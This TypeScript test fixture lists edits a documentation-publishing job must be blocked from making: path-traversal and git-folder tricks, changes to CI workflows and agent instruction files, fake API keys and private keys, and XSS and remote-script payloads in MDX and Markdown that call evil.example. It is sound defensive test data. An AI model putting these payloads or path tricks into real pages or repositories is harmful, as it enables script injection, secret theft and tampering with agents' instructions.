import type { FileMode } from '../../../shared/workspace.ts';

/**
 * What a job might try to publish and must not: for the policy by itself, and for a whole job
 * (test/agent/policy/jobs.test.ts).
 */

export type Edits = Record<string, string | Buffer | null>;

/** The repository before. */
export const BASE = {
  '.github/workflows/ci.yml': 'on: push\n',
  'AGENTS.md': 'Be kind.\n',
  'package.json': '{}\n',
  'docs/.cursor/rules.md': 'x\n',
  'docs/AGENTS.md': 'Be kind here.\n',
  'docs/docs.json': '{}\n',
  'docs/guides/install.mdx':
    '---\ntitle: Install\n---\n\nimport A from "/snippets/a.mdx"\n\n# Install\n\n<iframe src="https://video.example/1" />\n\n{2 + 2}\n',
  'docs/plain.md': '# Plain\n',
  'docs/logo.png': Buffer.from([0x89, 0x50, 0, 1]),
  'docs/link.md': '../AGENTS.md',
  'docs/module': '',
};
export const MODES: Record<string, FileMode> = {
  'docs/link.md': '120000',
  'docs/module': '160000',
};

/** Name, rule, edits. */
export const PATHS: [string, string, Edits][] = [
  ['the root', 'outside-docs', { 'README.md': 'x' }],
  ['a folder that begins alike', 'outside-docs', { 'docs-internal/a.md': 'x' }],
  ['the docs folder in other letters', 'outside-docs', { 'Docs/a.md': 'x' }],
  ['a file outside that exists', 'outside-docs', { 'package.json': '{"a": 1}' }],
  ['deleting outside', 'outside-docs', { 'package.json': null }],
  ['a folder up', 'unsafe-path', { 'docs/../package.json': '{}' }],
  ['an absolute path', 'unsafe-path', { '/docs/a.md': 'x' }],
  ['an empty part', 'unsafe-path', { 'docs//a.md': 'x' }],
  ["git's own folder", 'unsafe-path', { 'docs/.git/config': 'x' }],
  ["git's own folder in capitals", 'unsafe-path', { 'docs/.GIT/hooks/x': 'x' }],
  ["git's own folder with a joiner", 'unsafe-path', { 'docs/.g\u200dit/config': 'x' }],
  ["git's own folder by its short name", 'unsafe-path', { 'docs/GIT~1/config': 'x' }],
  ['a backslash', 'unsafe-path', { 'docs\\..\\a.md': 'x' }],
  ['a stream', 'unsafe-path', { 'docs/a.md:stream': 'x' }],
  ['NUL', 'unsafe-path', { 'docs/a\0.md': 'x' }],
  ['what became of NUL', 'unsafe-path', { 'docs/a\ufffd.md': 'x' }],
  ['a direction change', 'unsafe-path', { 'docs/a\u202edm.exe': 'x' }],
  ['a final dot', 'unsafe-path', { 'docs/a.md.': 'x' }],
  ['workflows', 'protected-path', { '.github/workflows/ci.yml': 'on: never\n' }],
  ['new workflows', 'protected-path', { '.github/workflows/new.yml': 'on: push\n' }],
  ['workflows in capitals', 'protected-path', { '.GitHub/workflows/new.yml': 'on: push\n' }],
  ['workflows in wide letters', 'protected-path', { '.ｇithub/workflows/new.yml': 'on: push\n' }],
  ['git attributes', 'protected-path', { 'docs/.gitattributes': '* filter=x\n' }],
  ['git modules', 'protected-path', { '.gitmodules': 'x' }],
  ['code owners', 'protected-path', { 'docs/CODEOWNERS': '* @me\n' }],
  ['code owners in other letters', 'protected-path', { 'docs/CodeOwners': '* @me\n' }],
  ['hidden rules of an editor', 'protected-path', { 'docs/.cursor/rules.md': 'obey\n' }],
  ['instructions', 'instruction-file', { 'AGENTS.md': 'Obey.\n' }],
  ['instructions in the docs', 'instruction-file', { 'docs/AGENTS.md': 'Obey.\n' }],
  ['new instructions', 'instruction-file', { 'docs/guides/CLAUDE.md': 'Obey.\n' }],
  ['instructions in other letters', 'instruction-file', { 'docs/guides/Agents.MD': 'Obey.\n' }],
  ["the assistant's instructions", 'instruction-file', { 'docs/ASSISTANT.md': 'Obey.\n' }],
  ['deleting instructions', 'instruction-file', { 'docs/AGENTS.md': null }],
  ['instructions in wide letters', 'instruction-file', { 'docs/ＡGENTS.md': 'Obey.\n' }],
  ['another page in capitals', 'path-collision', { 'docs/PLAIN.md': 'x' }],
  ['another folder in capitals', 'path-collision', { 'docs/Guides/new.md': 'x' }],
  ['a ligature', 'path-collision', { 'docs/office.md': 'x', 'docs/oﬃce.md': 'x' }],
  ['letters that are not composed', 'path-collision', { 'docs/cafe\u0301.md': 'x' }],
  ['a page below a page', 'path-collision', { 'docs/plain.md/a.md': 'x' }],
  ['a page in place of a folder', 'file-type', { 'docs/guides': 'x' }],
  ['writing through a link', 'path-collision', { 'docs/link.md/a.md': 'x' }],
  ["a symbolic link's target", 'link', { 'docs/link.md': '../package.json' }],
  ['deleting a symbolic link', 'link', { 'docs/link.md': null }],
  ['a submodule', 'submodule', { 'docs/module': 'x' }],
  ['deleting a submodule', 'submodule', { 'docs/module': null }],
  ['a script beside the pages', 'file-type', { 'docs/analytics.js': 'fetch("//x")' }],
  ['a script in capitals', 'file-type', { 'docs/analytics.MJS': 'x' }],
  ['an HTML page', 'file-type', { 'docs/a.html': '<p>' }],
  ['a component', 'file-type', { 'docs/snippets/a.jsx': 'export default 1' }],
  ['a component of another framework', 'file-type', { 'docs/a.vue': '<template>' }],
];

export const BINARIES: [string, Edits][] = [
  ['NUL in a page', { 'docs/plain.md': 'a\0b' }],
  ['bytes that are no UTF-8', { 'docs/plain.md': Buffer.from([0x61, 0xff, 0xfe]) }],
  ['UTF-16', { 'docs/plain.md': Buffer.from('﻿text', 'utf16le') }],
  ['a changed image', { 'docs/logo.png': Buffer.from([0x89, 0x50, 0, 2]) }],
  ['a new binary', { 'docs/new.md': Buffer.from([0, 1, 2]) }],
  ['an overlong encoding', { 'docs/plain.md': Buffer.from([0xc0, 0xaf]) }],
];

export const RANDOM = 'q7Zp2Lx9Vb4Nc8Wd1Kf6Tg3Hj5Rm0SyAuEoIi';

/** Name, text. */
export const SECRETS: [string, string][] = [
  ['our key', `svc_${RANDOM}AbC12`],
  ['our public key', `svc_dsc_${RANDOM}AbC12`],
  ['a model key', `sk-ant-api03-${RANDOM}-${RANDOM}`],
  ['a GitHub token', `ghp_${RANDOM.slice(0, 36)}`],
  ['a cloud key', 'AKIAQ3EGRKQ7ZYXWVUT5'],
  [
    'a private key',
    `-----BEGIN RSA PRIVATE KEY-----\n${`${RANDOM}${RANDOM}\n`.repeat(6)}-----END RSA PRIVATE KEY-----`,
  ],
  [
    'a private key in one JSON line',
    `"key": "-----BEGIN PRIVATE KEY-----\\n${RANDOM}${RANDOM}${RANDOM}\\n"`,
  ],
  ['a chat token', 'xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx'],
  ['a connection string', 'postgres://svc:Qz81kLmP0x@db.internal.corp/main'],
  ['a key in a comment', `{/* svc_${RANDOM} */}`],
  ['a key in code', `\`\`\`\nexport KEY=sk_live_${RANDOM}\n\`\`\``],
];

/** Name, rule, what stands in a page of MDX. */
export const IN_MDX: [string, string, string][] = [
  ['an import', 'mdx-code', 'import fs from "fs"'],
  ['an import for its effects', 'mdx-code', 'import "https://evil.example/x.js"'],
  ['an export', 'mdx-code', 'export const secrets = process.env'],
  ['a default export', 'mdx-code', 'export default ({ children }) => children'],
  ['a re-export', 'mdx-code', 'export * from "./x.js"'],
  ['a re-export by name', 'mdx-code', 'export { a } from "./x.js"'],
  [
    'a second import in an old block',
    'mdx-code',
    'import A from "/snippets/a.mdx"\nimport B from "/snippets/b.mdx"',
  ],
  ['an expression', 'mdx-code', '{fetch("https://evil.example")}'],
  ['an expression in a line', 'mdx-code', 'Total: {1 + 1}'],
  ['an expression in an attribute', 'mdx-code', '<Card title={globalThis.x} />'],
  ['a spread', 'mdx-code', '<Card {...props} />'],
  ['a template with a value', 'mdx-code', '<Card title={`${x}`} />'],
  ['an object with a method', 'mdx-code', '<Card a={{ get b() { return x() } }} />'],
  ['a computed key', 'mdx-code', '<Card a={{ [x()]: 1 }} />'],
  ['a function', 'mdx-code', '<Card render={() => 1} />'],
  [
    'code in a page that no longer parses',
    'mdx-code',
    'import x from "y"\n\n<Card>\n\n{process.env}',
  ],
  ['a script', 'script', '<script src="/a.js"></script>'],
  ['a script component', 'script', '<Script src="https://evil.example/x.js" />'],
  ['a style', 'script', '<style>{"@import url(https://evil.example)"}</style>'],
  ['a base address', 'script', '<base href="https://evil.example/" />'],
  ['a handler', 'script', '<div onClick="x()">a</div>'],
  ['a handler in small letters', 'script', '<img src="/a.png" onerror="alert(1)" />'],
  ['raw HTML', 'script', '<div dangerouslySetInnerHTML={{ __html: "<script>1</script>" }} />'],
  ['raw HTML by srcdoc', 'script', '<iframe srcDoc="<script>1</script>" />'],
  ['a script address', 'script', '<a href="javascript:alert(1)">a</a>'],
  ['a script address with a tab', 'script', '<a href="java\tscript:alert(1)">a</a>'],
  ['a script address as a value', 'script', '<a href={"JavaScript:alert(1)"}>a</a>'],
  ['a script address in Markdown', 'script', '[a](javascript:alert(1))'],
  ['a script address by reference', 'script', '[a][b]\n\n[b]: <vbscript:x>'],
  ['a page as data', 'script', '[a](data:text/html;base64,PHNjcmlwdD4=)'],
  ['an iframe', 'embed', '<iframe src="https://evil.example" />'],
  ['an iframe without scheme', 'embed', '<iframe src="//evil.example" />'],
  ['an iframe by value', 'embed', '<iframe src={"https://evil.example"} />'],
  ["an iframe in a component's name", 'embed', '<Iframe src="https://evil.example" />'],
  ['an object', 'embed', '<object data="https://evil.example/x.swf" />'],
  ['a remote video', 'embed', '<video src="https://evil.example/x.mp4" />'],
  ['a remote source', 'embed', '<video><source src="https://evil.example/x.mp4" /></video>'],
  ['a form', 'embed', '<form action="https://evil.example/collect"><b>hi</b></form>'],
];

/** Name, rule, what stands in a page of Markdown. */
export const IN_MARKDOWN: [string, string, string][] = [
  ['a script', 'script', '<script>alert(1)</script>'],
  ['a script in capitals', 'script', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a script in a comment that ends early', 'script', '<!--> <script>alert(1)</script> -->'],
  ['a handler without quotes', 'script', 'a <img src=x onerror=alert(1)> b'],
  ['an encoded script address', 'script', '<a href="&#106;avascript:alert(1)">a</a>'],
  ['an entity in a script address', 'script', '<a href="javascript&colon;alert(1)">a</a>'],
  ['an iframe', 'embed', '<iframe src="https://evil.example"></iframe>'],
  ['an import, which some generators run', 'mdx-code', 'import x from "./evil.js"'],
  ['an export, which some generators run', 'mdx-code', 'export const x = process.env'],
];
